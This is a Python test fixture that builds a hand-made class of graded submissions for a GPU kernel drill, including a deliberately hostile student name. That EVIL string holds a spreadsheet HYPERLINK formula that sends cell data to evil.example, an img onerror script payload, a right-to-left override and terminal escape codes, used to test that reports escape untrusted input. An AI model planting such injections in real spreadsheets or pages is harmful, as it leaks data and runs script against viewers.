"""A small class made by hand: right, wrong, hostile and ungradable submissions, to test what is made of them."""

from __future__ import annotations

from dataclasses import replace

from sample_grades import (
    CRASH,
    HOSTILE,
    KERNELS,
    NAMES,
    OUT_OF_BOUNDS,
    SYNTAX,
    WRONG_VALUE,
    failed,
    gone,
    grade,
    lesson,
    passed,
    stopped,
    waiting,
)

from drills.report.model import ExerciseResult, Failure, Grade, LevelResult, TestResult
from drills.report.submission import Submission

L4 = "l4_merge_states"
DIGEST = "3f2a91c8" * 8
LEVELS = ("value", "edge", "memory", "traffic", "compile")
NOT_TRITON = Failure("not_triton", "edge", got="result 0 was written by no launched kernel")
EVIL = (
    '=HYPERLINK("http://evil.example/?"&A1)|`x` <img src=x onerror=alert(1)> [a](http://b) '
    "\u202etxt\x1b[31m @all #1 &amp; $x$"
)


def one(id: str, name: str, *results: ExerciseResult, **more) -> Submission:
    """A submission of lesson 4. more: fields of the grade."""
    facts = {"target": f"{id}/", "seed": None, "seconds": 2.0, "isolation": "bwrap"} | more
    made = grade(lesson(L4, *results), **facts)
    return Submission(id, name, {f"{L4}.py": DIGEST}, grade=made, made_with={"seed_sha256": "ab" * 32})


def levels(**states: str) -> dict[str, LevelResult]:
    """The levels of an exercise: passed, unless said otherwise."""
    return {level: LevelResult(states.get(level, "passed")) for level in LEVELS}


def result(name: str, tests: list[TestResult] | None = None, **states: str) -> ExerciseResult:
    """An exercise that failed, with these states of its levels."""
    return ExerciseResult(name, "failed", levels(**states), tests or [], line=9)


def all_passed(id: str, name: str) -> Submission:
    """Every exercise passed."""
    return one(id, name, passed("merge_state", kernels=KERNELS), *map(passed, NAMES[L4][1][1:]))


NO_GRADE = Submission(
    "no-files~0a",
    "no files",
    refused=("link.py is a link", f"{EVIL} is a pipe"),
    problem="there is no file of a lesson",
)
BROKEN = Submission("broken", "Bo Roken", grade=Grade("broken/", "cpu", grader_error="no memory"))

CLASS: tuple[Submission, ...] = (
    all_passed("ada", "Ada Löve"),
    one(
        "bob",
        "Bob",
        passed("merge_state"),
        failed("merge_states", WRONG_VALUE, "two states merge as one", 6),
        seconds=3.0,
    ),
    one("cat", "Cat", failed("merge_state", WRONG_VALUE, "two states merge as one"), seconds=4.0),
    one(
        "dan",
        "Dan",
        failed("merge_state", OUT_OF_BOUNDS, "head size 80"),
        failed("merge_states", CRASH, "any number", left=2),
    ),
    one("eve~00", EVIL, failed("merge_state", HOSTILE, "two | states `merge`"), gone("merge_states")),
    one("fay", "Fay"),
    one(
        "gus",
        "Gus",
        result("merge_state", [TestResult("t", "a test", "merge_state", "edge", "failed", NOT_TRITON)], edge="failed"),
    ),
    replace(
        one("hal", "Hal"),
        grade=grade(lesson(L4, *map(stopped, NAMES[L4][1]), problem=SYNTAX), target="hal/", seed=None, seconds=0.1),
    ),
    NO_GRADE,
    BROKEN,
)


def class_again():
    """Gives the class anew, as a batch does."""
    return iter(CLASS)


__all__ = ["CLASS", "EVIL", "L4", "class_again", "all_passed", "levels", "one", "result", "waiting"]
